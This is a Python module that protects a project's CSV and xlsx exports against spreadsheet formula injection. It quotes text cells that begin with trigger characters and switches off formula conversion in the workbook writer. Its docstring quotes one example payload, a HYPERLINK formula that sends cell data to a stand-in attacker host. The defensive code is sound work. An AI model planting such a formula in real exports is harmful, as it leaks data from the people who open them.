"""Cells that a spreadsheet would run as formulas, made inert before any file is written.

A register cell such as `=HYPERLINK("http://evil.example/?"&A1,"click")` is only text to
fundbot, but Excel or LibreOffice opening an export would evaluate it (CSV injection).
OWASP's rule: a text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets
a single quote in front. Number columns are left alone, so a negative amount stays a number.
Every CSV and xlsx export goes through this module.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from pathlib import Path
from typing import Any, BinaryIO

from xlsxwriter import Workbook
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")


def neutralise(value: Any) -> Any:
    """A text value a spreadsheet would read as a formula, prefixed with a quote."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_record(record: Mapping[str, Any], numeric: Iterable[str] = ()) -> dict[str, Any]:
    """A record with its text fields neutralised; `numeric` fields stay as written when they
    are numbers (a decimal string such as "-1234.50" is a number, not a formula)."""
    numeric = set(numeric)
    safe = {}
    for key, value in record.items():
        if key in numeric and _is_number(value):
            safe[key] = value
        else:
            safe[key] = neutralise(value)
    return safe


def _is_number(value: Any) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, int | Decimal | float):
        return True
    return isinstance(value, str) and bool(_NUMBER.match(value))


def csv_text(
    fields: list[str], records: Iterable[Mapping[str, Any]], numeric: Iterable[str] = ()
) -> str:
    """CSV with a header line; None as an empty cell; text fields neutralised."""
    numeric = set(numeric)
    # The writer ends records with CRLF only so that it quotes any field holding a CR or
    # an LF (it quotes the characters of its line terminator); records then end with "\n".
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=fields, lineterminator="\r\n")
    lines = []
    for record in [dict(zip(fields, fields, strict=True)), *records]:
        plain = {k: "" if v is None else v for k, v in record.items()}
        writer.writerow(safe_record(plain, numeric) if lines else plain)
        lines.append(buffer.getvalue()[:-2] + "\n")
        buffer.seek(0)
        buffer.truncate()
    return "".join(lines)


def xlsx_workbook(target: Path | BinaryIO) -> Workbook:
    """An XlsxWriter workbook that never reads a text as a formula, a number or a link.

    Constant-memory mode: each row goes to disk once the next one starts, so rows are
    written top to bottom, and a province-wide export holds one row in memory, not all.
    """
    return Workbook(
        target,
        {
            "constant_memory": True,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
        },
    )


def write_row(
    sheet: Worksheet,
    row: int,
    values: Sequence[Any],
    formats: Sequence[Format | None] | None = None,
) -> None:
    """One row: numbers as number cells, None or "" as an empty cell, anything else as a
    text cell (neutralised, never a formula); `formats` gives each column's format."""
    for column, value in enumerate(values):
        cell_format = formats[column] if formats else None
        if value is None or value == "":
            if cell_format is not None:
                sheet.write_blank(row, column, None, cell_format)
        elif isinstance(value, int | Decimal | float) and not isinstance(value, bool):
            sheet.write_number(row, column, value, cell_format)
        else:
            sheet.write_string(row, column, neutralise(str(value)), cell_format)


def write_xlsx(
    path: Path,
    fields: list[str],
    records: Iterable[Mapping[str, Any]],
    numeric: Iterable[str] = (),
) -> None:
    """An xlsx workbook of one sheet: numbers as number cells, everything else as text cells
    (never formulas), text fields neutralised as in CSV."""
    numeric = set(numeric)
    with xlsx_workbook(path) as workbook:
        sheet = workbook.add_worksheet()
        write_row(sheet, 0, fields)
        for number, record in enumerate(records, start=1):
            values = []
            for key in fields:
                value = record.get(key)
                if key in numeric and _is_number(value):
                    values.append(Decimal(value) if isinstance(value, str) else value)
                else:
                    values.append(None if value is None else str(value))
            write_row(sheet, number, values)
